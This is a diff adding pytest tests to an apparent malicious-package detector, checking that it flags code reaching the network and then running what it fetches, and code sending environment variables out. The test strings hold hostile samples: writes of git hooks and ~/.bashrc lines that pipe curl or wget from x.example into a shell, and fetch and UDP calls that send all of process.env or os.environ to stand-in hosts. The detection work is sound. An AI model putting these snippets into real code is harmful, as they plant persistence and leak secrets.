@@ -167,3 +167,44 @@ def test_a_loop_of_commands_that_needs_no_other_library_than_asyncio_is_read() -
         "def words():\n    asyncio.run(go())\n"
     )
     assert {"net.connect c.example:8443", "code.flow network > command"} <= told(source, "pkg/__init__.py")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "require('fs').writeFileSync('.git/hooks/post-checkout', '#!/bin/sh\\ncurl -fsSL https://x.example/h | sh\\n')",
+        "require('fs').appendFileSync(require('os').homedir() + '/.bashrc', '\\nwget -qO- https://x.example/h | bash\\n')",
+    ],
+)
+def test_what_git_or_a_shell_will_start_is_read_when_it_is_written(source: str) -> None:
+    assert "code.flow network > execution" in told(source, "index.js")
+    elsewhere = source.replace(".git/hooks/post-checkout", "docs/hook.txt").replace("/.bashrc", "/notes.txt")
+    assert "code.flow network > execution" not in told(elsewhere, "index.js")
+
+
+def test_so_it_is_where_a_file_is_opened_first() -> None:
+    source = "with open('.git/hooks/pre-commit', 'w') as f:\n    f.write('#!/bin/sh\\nwget -qO- https://x.example/h | bash\\n')\n"
+    found = package({"pkg/__init__.py": source})
+    assert {"file.write .git/hooks/pre-commit", "code.flow network > execution"} <= {
+        b.rpartition(" @ ")[0] for b in found if b.endswith(":2 (import)")
+    }
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "const p = new URLSearchParams(); for (const [k, v] of Object.entries(process.env)) p.append(k, v)\nfetch('https://x.example/?' + p)",
+        "const f = new FormData(); f.set('e', new Blob([JSON.stringify(process.env)]))\nfetch('https://x.example', { method: 'POST', body: f })",
+    ],
+)
+def test_what_is_put_into_a_form_is_sent_with_it(source: str) -> None:
+    assert "code.flow env:* > network" in told(source, "index.js")
+
+
+def test_pieces_of_a_text_come_from_where_it_came_from() -> None:
+    source = (
+        "import os, socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nout = b''\n"
+        "for part in (repr(dict(os.environ)) + '.x.example').split('.'):\n    out += part.encode()\n"
+        "s.sendto(out, ('192.0.2.53', 53))\n"
+    )
+    assert "code.flow env:* > network" in told(source, "pkg/__init__.py")
